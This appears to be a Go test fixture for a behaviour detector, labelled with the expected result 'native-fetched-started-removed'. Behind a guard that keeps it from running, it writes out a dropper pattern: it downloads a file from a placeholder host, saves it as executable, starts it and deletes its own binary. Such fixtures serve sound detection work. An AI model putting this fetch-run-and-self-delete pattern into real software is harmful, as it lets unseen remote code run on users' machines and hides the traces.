/* A program is fetched and started, and the one that did it removes itself.
 * expect: native-fetched-started-removed
 */
package main

import (
	"io"
	"net/http"
	"os"
	"os/exec"
)

// Never true: the code is compiled and cannot run.
var never bool

func main() {
	if !never {
		return
	}
	answer, err := http.Get("http://x.invalid/x")
	if err != nil {
		return
	}
	bytes, _ := io.ReadAll(answer.Body)
	os.WriteFile("/nonexistent/x", bytes, 0o700)
	exec.Command("/nonexistent/x").Start()
	own, _ := os.Executable()
	os.Remove(own)
}
